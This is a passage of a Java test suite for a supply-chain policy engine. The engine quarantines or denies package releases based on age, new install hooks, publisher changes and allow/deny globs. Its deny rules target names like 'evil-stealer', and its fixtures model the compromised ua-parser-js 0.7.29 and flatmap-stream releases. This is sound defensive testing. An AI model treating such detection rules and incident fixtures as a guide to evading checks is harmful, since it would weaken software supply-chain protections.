            Map<String, Instant> observed = Map.of("1.0.0", packageFirstSeen, "1.1.0", sighting);

            Evaluation e = cfg().age(AGE).engine(false).evaluate("npm", "ua-parser-js", history, observed, NOW).get(1);
            assertEquals(Verdict.QUARANTINED, e.verdict());
            assertEquals(sighting.plus(AGE), e.heldUntil());
            assertEquals("unknown", onlyFinding(e, "age").evidence().get("publishedAt"));
        }

        @Test
        void aVersionThatAppearedLaterKeepsALaterUpstreamTime() {
            Instant packageFirstSeen = NOW.minus(Duration.ofDays(30));
            Instant sighting = NOW.minus(Duration.ofHours(5));
            Instant published = NOW.minus(Duration.ofHours(2)); // upstream's clock says after the sighting
            List<ReleaseFacts> history = List.of(
                    release("1.0.0", LONG_AGO, "faisalman", null, Map.of(), Map.of()),
                    release("1.1.0", published, "faisalman", null, Map.of(), Map.of()));
            Map<String, Instant> observed = Map.of("1.0.0", packageFirstSeen, "1.1.0", sighting);

            Evaluation e = cfg().age(AGE).engine().evaluate("npm", "ua-parser-js", history, observed, NOW).get(1);
            assertEquals(published.plus(AGE), e.heldUntil());
        }
    }

    @Test
    void heldForAgeAndForANewHookIsNotReleasedByTimeAlone() {
        Instant published = NOW.minus(Duration.ofHours(1));
        List<Evaluation> out = run(cfg().age(AGE).hooks(InstallHooks.NEW).engine(), List.of(
                plain("0.7.28", 200, Map.of()),
                release("0.7.29", published, "faisalman", Set.of("faisalman"), preinstall(PREINSTALL), Map.of())));

        Evaluation e = out.get(1);
        assertEquals(List.of("age", "install-hooks"), holdingChecks(e));
        assertHeldIndefinitely(e);
        assertFalse(e.visibleAt(published.plus(AGE)));

        // Without the hook the same release is released by time.
        List<Evaluation> ageOnly = run(cfg().age(AGE).engine(), List.of(
                plain("0.7.28", 200, Map.of()),
                release("0.7.29", published, "faisalman", Set.of("faisalman"), Map.of(), Map.of())));
        assertEquals(published.plus(AGE), ageOnly.get(1).heldUntil());
    }

    @Test
    void heldForAgeAndForAPublisherChangeIsNotReleasedByTimeAlone() {
        Instant published = NOW.minus(Duration.ofHours(1));
        List<Evaluation> out = run(cfg().age(AGE).engine(), List.of(
                plain("0.7.28", 200, Map.of()),
                release("0.7.29", published, "mallory", Set.of("faisalman"), Map.of(), Map.of())));
        assertEquals(List.of("age", "publisher"), holdingChecks(out.get(1)));
        assertHeldIndefinitely(out.get(1));
    }

    // ---------------------------------------------------------------- allow / deny

    @Nested
    class AllowDeny {

        private final ReleaseFacts oldRelease = release("1.0.0", LONG_AGO, "someone", null, Map.of(), Map.of());

        private ReleaseFacts old(String version) {
            return release(version, LONG_AGO, "someone", null, Map.of(), Map.of());
        }

        @Test
        void denyWithEcosystemAndNameGlob() {
            PolicyEngine engine = cfg().deny("npm:evil-*").engine();

            Evaluation denied = single(engine, "npm", "evil-stealer", oldRelease);
            assertEquals(Verdict.DENIED, denied.verdict());
            assertNull(denied.heldUntil());
            assertFalse(denied.visibleAt(NOW));
            assertFalse(denied.visibleAt(NOW.plus(Duration.ofDays(3650))));
            Finding f = onlyFinding(denied, "deny");
            assertTrue(f.holds());
            assertEquals(Map.of("release", "npm:evil-stealer@1.0.0"), f.evidence());
            assertEquals(1, denied.findings().size());

            assertApprovedWithoutFindings(single(engine, "npm", "not-evil", oldRelease));
            assertApprovedWithoutFindings(single(engine, "pypi", "evil-stealer", oldRelease));
        }

        @Test
        void denyWithoutEcosystemAndWithAVersionGlob() {
            PolicyEngine engine = cfg().deny("left-pad@2.*").engine();

            assertEquals(Verdict.DENIED, single(engine, "npm", "left-pad", old("2.0.0")).verdict());
            assertEquals(Verdict.DENIED, single(engine, "pypi", "left-pad", old("2.1.3")).verdict());
            assertApprovedWithoutFindings(single(engine, "npm", "left-pad", old("1.3.0")));
            assertApprovedWithoutFindings(single(engine, "npm", "left-pad", old("20.0.0")));
            assertApprovedWithoutFindings(single(engine, "npm", "left-pad-x", old("2.0.0")));
        }

        @Test
        void denyOnlyTheMatchingVersionsOfAHistory() {
            List<Evaluation> out = cfg().deny("npm:ua-parser-js@0.7.29", "npm:ua-parser-js@1.0.0", "npm:ua-parser-js@0.8.0")
                    .engine().evaluate("npm", "ua-parser-js", List.of(
                            plain("0.7.28", 300, Map.of()),
                            plain("0.7.29", 200, Map.of()),
                            plain("0.7.30", 100, Map.of())), Map.of(), NOW);
            assertApprovedWithoutFindings(out.get(0));
            assertEquals(Verdict.DENIED, out.get(1).verdict());
            assertApprovedWithoutFindings(out.get(2));
        }

        @Test
        void allowApprovesDespiteHoldingFindings() {
            Instant published = NOW.minus(Duration.ofHours(1));
            List<Evaluation> out = cfg().allow("npm:esbuild@*").engine().evaluate("npm", "esbuild", List.of(
                    release("0.20.0", LONG_AGO, "evanw", Set.of("evanw"), Map.of(), Map.of()),
                    release("0.20.1", published, "mallory", Set.of("evanw"), Map.of("postinstall", "node install.js"), Map.of())),
                    Map.of(), NOW);

            Evaluation e = out.get(1);
            assertEquals(Verdict.APPROVED, e.verdict());
            assertNull(e.heldUntil());
            assertTrue(e.visibleAt(NOW));
            Finding allow = onlyFinding(e, "allow");
            assertFalse(allow.holds());
            assertEquals(Map.of("release", "npm:esbuild@0.20.1"), allow.evidence());
            assertEquals(List.of("age", "install-hooks", "publisher"), holdingChecks(e), "the findings are still recorded");

            // Not allowed, the same history is held.
            Evaluation without = cfg().engine().evaluate("npm", "esbuild", List.of(
                    release("0.20.0", LONG_AGO, "evanw", Set.of("evanw"), Map.of(), Map.of()),
                    release("0.20.1", published, "mallory", Set.of("evanw"), Map.of("postinstall", "node install.js"), Map.of())),
                    Map.of(), NOW).get(1);
            assertEquals(Verdict.QUARANTINED, without.verdict());
        }

        @Test
        void denyWinsOverAllow() {
            PolicyEngine engine = cfg().allow("npm:*").deny("npm:evil-*").engine();

            Evaluation e = single(engine, "npm", "evil-pkg", oldRelease);
            assertEquals(Verdict.DENIED, e.verdict());
            assertEquals(List.of(), findings(e, "allow"));
            assertEquals(1, findings(e, "deny").size());

            Evaluation other = single(engine, "npm", "good-pkg", oldRelease);
            assertEquals(Verdict.APPROVED, other.verdict());
            assertEquals(1, findings(other, "allow").size());
        }

        @Test
        void scopedNpmNames() {
            PolicyEngine engine = cfg().deny("npm:@acme/util@1.2.*").allow("@acme/*").engine();

            Evaluation denied = single(engine, "npm", "@acme/util", old("1.2.3"));
            assertEquals(Verdict.DENIED, denied.verdict());
            assertEquals("npm:@acme/util@1.2.3", onlyFinding(denied, "deny").evidence().get("release"));

            Evaluation allowed = single(engine, "npm", "@acme/util", old("1.3.0"));
            assertEquals(Verdict.APPROVED, allowed.verdict());
            assertEquals(1, findings(allowed, "allow").size());

            assertApprovedWithoutFindings(single(engine, "npm", "@other/util", old("1.2.3")));
            assertApprovedWithoutFindings(single(engine, "npm", "acme-util", old("1.2.3")));
        }

        @Test
        void scopedNameWithoutVersionPart() {
            PolicyEngine engine = cfg().deny("npm:@acme/util").engine();
            assertEquals(Verdict.DENIED, single(engine, "npm", "@acme/util", old("9.9.9")).verdict());
            assertApprovedWithoutFindings(single(engine, "npm", "@acme/utils", old("9.9.9")));
        }

        @Test
        void mavenStyleNames() {
            PolicyEngine engine = cfg().deny("maven:com.acme:*").engine();

            assertEquals(Verdict.DENIED, single(engine, "maven", "com.acme:lib", old("1.4.2")).verdict());
            assertApprovedWithoutFindings(single(engine, "maven", "com.other:lib", old("1.4.2")));
            assertApprovedWithoutFindings(single(engine, "npm", "com.acme:lib", old("1.4.2")));

            PolicyEngine versioned = cfg().deny("com.acme:lib@1.*").engine();
            assertEquals(Verdict.DENIED, single(versioned, "maven", "com.acme:lib", old("1.4.2")).verdict());
            assertApprovedWithoutFindings(single(versioned, "maven", "com.acme:lib", old("2.0.0")));
        }

        /** Expected from the documented syntax ("eco:name@version", ecosystem optional, '*' globs). */
        @Test
        void wildcardEcosystem() {
            PolicyEngine engine = cfg().deny("*:@acme/*@*").engine();
            assertEquals(Verdict.DENIED, single(engine, "npm", "@acme/util", old("1.0.0")).verdict());
        }

        /** A Maven name has a ':' of its own, so Maven patterns carry their ecosystem (as the README says). */
        @Test
        void mavenPatternsNameTheirEcosystem() {
            PolicyEngine engine = cfg().deny("maven:commons-io:commons-io@2.*").engine();
            assertEquals(Verdict.DENIED, single(engine, "maven", "commons-io:commons-io", old("2.16.1")).verdict());
            assertEquals(Verdict.APPROVED, single(engine, "maven", "commons-io:commons-io", old("1.4")).verdict());
        }
    }

    // ---------------------------------------------------------------- internal namespaces

    @Test
    void internalNamespacesHoldMatchingNames() {
        PolicyEngine engine = cfg().internal("@acme/*", "acme-*").engine();
        List<ReleaseFacts> history = List.of(
                release("1.0.0", LONG_AGO, "someone", null, Map.of(), Map.of()),
                release("99.0.0", LONG_AGO.plusSeconds(60), "someone", null, Map.of(), Map.of()));

        List<Evaluation> scoped = engine.evaluate("npm", "@acme/util", history, Map.of(), NOW);
        for (Evaluation e : scoped) {
            assertHeldIndefinitely(e);
            Finding f = onlyFinding(e, "namespace");
            assertTrue(f.holds());
            assertEquals(Map.of("pattern", "@acme/*"), f.evidence());
            assertEquals(1, e.findings().size());
        }
        Evaluation prefixed = engine.evaluate("npm", "acme-internal-tools", history, Map.of(), NOW).get(1);
        assertHeldIndefinitely(prefixed);
        assertEquals(Map.of("pattern", "acme-*"), onlyFinding(prefixed, "namespace").evidence());

        for (String name : List.of("left-pad", "@acmecorp/util", "not-acme-tools", "@other/acme-x")) {
            for (Evaluation e : engine.evaluate("npm", name, history, Map.of(), NOW)) {
                assertApprovedWithoutFindings(e);
            }
        }
    }

    // ---------------------------------------------------------------- digests, versions, ids

    @Nested
    class Digests {

        private ReleaseFacts r101() {
            return release("1.0.1", NOW.minus(Duration.ofDays(5)), "faisalman", Set.of("faisalman", "mallory"),
                    Map.of("preinstall", PREINSTALL, "install", "node-gyp rebuild"), Map.of("ms", "^2.1.3", "debug", "^4.3.4"));
        }

        private ReleaseFacts r100() {
            return release("1.0.0", NOW.minus(Duration.ofDays(50)), "faisalman", Set.of("faisalman"), Map.of(), Map.of("ms", "^2.1.3"));
        }

        private String digestOf(PolicyEngine engine, List<ReleaseFacts> history, int index) {
            return engine.evaluate("npm", "ua-parser-js", history, Map.of(), NOW).get(index).factsDigest();
        }

        @Test
        void stableForEqualInputs() {
            PolicyEngine engine = cfg().engine();
            String a = digestOf(engine, List.of(r100(), r101()), 1);
            // Equal facts built separately, with maps in another insertion order.
            Map<String, String> hooks = new LinkedHashMap<>();
            hooks.put("install", "node-gyp rebuild");
            hooks.put("preinstall", PREINSTALL);
            Map<String, String> deps = new LinkedHashMap<>();
            deps.put("debug", "^4.3.4");
            deps.put("ms", "^2.1.3");
            ReleaseFacts same = release("1.0.1", NOW.minus(Duration.ofDays(5)), "faisalman", new HashSet<>(List.of("mallory", "faisalman")),
                    hooks, deps);
            String b = digestOf(engine, List.of(r100(), same), 1);
            assertEquals(a, b);
            assertEquals(a, digestOf(engine, List.of(r100(), r101()), 1));
            // The facts, not the policy: another configuration gives the same digest.
            assertEquals(a, digestOf(cfg().hooks(InstallHooks.ALL).age(Duration.ZERO).deny("npm:x").engine(true),
                    List.of(r100(), r101()), 1));
            assertNotEquals(a, digestOf(engine, List.of(r100(), r101()), 0));
        }

        @Test
        void changesWhenTheReleasesFactsChange() {
            PolicyEngine engine = cfg().engine();
            ReleaseFacts r = r101();
            String base = digestOf(engine, List.of(r100(), r), 1);
            List<ReleaseFacts> variants = List.of(
                    release(r.version(), r.publishedAt().plusSeconds(1), r.publisher(), r.maintainers(), r.installHooks(), r.dependencies()),
                    release(r.version(), r.publishedAt(), "mallory", r.maintainers(), r.installHooks(), r.dependencies()),
                    release(r.version(), r.publishedAt(), null, r.maintainers(), r.installHooks(), r.dependencies()),
                    release(r.version(), r.publishedAt(), r.publisher(), Set.of("faisalman"), r.installHooks(), r.dependencies()),
                    release(r.version(), r.publishedAt(), r.publisher(), r.maintainers(),
                            Map.of("preinstall", PREINSTALL + " --quiet", "install", "node-gyp rebuild"), r.dependencies()),
                    release(r.version(), r.publishedAt(), r.publisher(), r.maintainers(), null, r.dependencies()),
                    release(r.version(), r.publishedAt(), r.publisher(), r.maintainers(), r.installHooks(),
                            Map.of("ms", "^2.1.3", "debug", "^4.3.4", "flatmap-stream", "^0.1.0")));
            Set<String> seen = new HashSet<>(List.of(base));
            for (ReleaseFacts v : variants) {
                String d = digestOf(engine, List.of(r100(), v), 1);
                assertTrue(seen.add(d), () -> "digest unchanged or repeated for " + v);
            }
        }

        @Test
        void changesWhenThePreviousReleasesFactsChange() {
            PolicyEngine engine = cfg().engine();
            ReleaseFacts p = r100();
            ReleaseFacts r102 = release("1.0.2", NOW.minus(Duration.ofDays(1)), "faisalman", null, Map.of(), Map.of());
            List<Evaluation> base = engine.evaluate("npm", "ua-parser-js", List.of(p, r101(), r102), Map.of(), NOW);

            ReleaseFacts p2 = release(p.version(), p.publishedAt(), p.publisher(), p.maintainers(), Map.of("postinstall", "node x.js"),
                    p.dependencies());
            List<Evaluation> changed = engine.evaluate("npm", "ua-parser-js", List.of(p2, r101(), r102), Map.of(), NOW);

            assertNotEquals(base.get(0).factsDigest(), changed.get(0).factsDigest());
            assertNotEquals(base.get(1).factsDigest(), changed.get(1).factsDigest(), "its previous release changed");
            assertEquals(base.get(2).factsDigest(), changed.get(2).factsDigest(), "only the release and the one before count");

            ReleaseFacts p3 = release(p.version(), p.publishedAt(), "mallory", p.maintainers(), p.installHooks(), p.dependencies());
            assertNotEquals(base.get(1).factsDigest(),
                    engine.evaluate("npm", "ua-parser-js", List.of(p3, r101()), Map.of(), NOW).get(1).factsDigest());
        }

        /**
         * The digest is stored with verdicts and people's decisions, so it must be the same in
         * another JVM (after a restart). Each child JVM prints the digest of the same facts.
         */
        @Test
        void stableAcrossJvms() throws Exception {
            String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
            Set<String> digests = new HashSet<>();
            for (int i = 0; i < 5; i++) {
                Process p = new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"), DigestProbe.class.getName())
                        .redirectErrorStream(true).start();
                String out;
                try (InputStream in = p.getInputStream()) {
                    ByteArrayOutputStream buf = new ByteArrayOutputStream();
                    in.transferTo(buf);
                    out = buf.toString(StandardCharsets.UTF_8).trim();
                }
                if (!p.waitFor(60, TimeUnit.SECONDS) || p.exitValue() != 0) {
                    fail("probe failed: " + out);
                }
                digests.add(out);
            }
            assertEquals(1, digests.size(), digests::toString);
        }
    }

    /** Run in a child JVM by {@link Digests#stableAcrossJvms()}. */
    static final class DigestProbe {
        public static void main(String[] args) {
            ReleaseFacts previous = release("1.0.0", Instant.parse("2025-01-01T00:00:00Z"), "alice", Set.of("alice", "bob", "carol"),
                    Map.of("install", "node-gyp rebuild", "preinstall", PREINSTALL, "postinstall", "node post.js"),
                    Map.of("ms", "^2.1.3", "debug", "^4.3.4", "semver", "^7.6.0"));
            ReleaseFacts release = release("1.0.1", Instant.parse("2025-02-01T00:00:00Z"), "alice", Set.of("alice", "bob", "carol"),
                    Map.of("install", "node-gyp rebuild", "preinstall", PREINSTALL, "postinstall", "node post.js"),
                    Map.of("ms", "^2.1.3", "debug", "^4.3.4", "semver", "^7.6.0"));
            System.out.println(new PolicyEngine(cfg().build(), false)
                    .evaluate("npm", "probe", List.of(previous, release), Map.of(), NOW).get(1).factsDigest());
        }
    }

    @Test
    void engineVersionChangesWithTheConfig() {
        String base = cfg().engine().version();
        assertEquals(base, cfg().engine().version(), "equal configs, equal versions");
        assertEquals(base, new PolicyEngine(cfg().build(), false).version());

        List<String> others = List.of(
                cfg().age(Duration.ofHours(24)).engine().version(),
                cfg().age(Duration.ZERO).engine().version(),
                cfg().hooks(InstallHooks.ALL).engine().version(),
                cfg().hooks(InstallHooks.OFF).engine().version(),
                cfg().publisherChange(false).engine().version(),
                cfg().internal("@acme/*").engine().version(),
                cfg().allow("npm:esbuild@*").engine().version(),
                cfg().deny("npm:evil-*").engine().version(),
                cfg().engine(true).version());
        Set<String> all = new HashSet<>(others);
        all.add(base);
        assertEquals(others.size() + 1, all.size(), () -> base + " " + others);
    }

    @Test
    void releaseIdIsStableShortHexAndDistinct() {
        String id = PolicyEngine.releaseId("npm", "ua-parser-js", "0.7.29");
        assertEquals(id, PolicyEngine.releaseId("npm", "ua-parser-js", "0.7.29"));
        assertTrue(id.matches("[0-9a-f]{12}"), id);

        Set<String> ids = new HashSet<>(List.of(id,
                PolicyEngine.releaseId("npm", "ua-parser-js", "0.7.30"),
                PolicyEngine.releaseId("npm", "ua-parser-js", "1.0.0"),
                PolicyEngine.releaseId("npm", "ua-parser-jsx", "0.7.29"),
                PolicyEngine.releaseId("pypi", "ua-parser-js", "0.7.29"),
                PolicyEngine.releaseId("npm", "@acme/util", "0.7.29")));
        assertEquals(6, ids.size());
        for (String other : ids) {
            assertTrue(other.matches("[0-9a-f]{12}"), other);
        }
    }

    @Test
    void aHistoryOfThreeThousandVersionsIsDecidedInOrder() {
        int n = 3_000;
        List<ReleaseFacts> history = new ArrayList<>(n);
        Map<String, Instant> observed = new HashMap<>();
        Instant firstSeen = NOW.minus(Duration.ofDays(30));
        for (int i = 0; i < n; i++) {
            String v = (i / 1000) + "." + ((i / 100) % 10) + "." + (i % 100);
            Map<String, String> hooks = i == 1234 ? preinstall(PREINSTALL) : Map.of();
            history.add(release(v, LONG_AGO.plusSeconds(i * 60L), i == 2500 ? "mallory" : "faisalman", Set.of("faisalman"), hooks,
                    Map.of("ms", "^2.1.3")));
            observed.put(v, firstSeen);
        }

        List<Evaluation> out = cfg().engine().evaluate("npm", "big-package", history, observed, NOW);

        assertEquals(n, out.size());
        for (int i = 0; i < n; i++) {
            assertEquals(history.get(i).version(), out.get(i).version(), "position " + i);
        }
        List<Integer> held = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            if (out.get(i).verdict() != Verdict.APPROVED) {
                held.add(i);
            }
        }
        // The version adding the hook, and the one by another publisher and the one after it
        // (published by faisalman again, while its previous was by mallory).
        assertEquals(List.of(1234, 2500, 2501), held);
    }
}
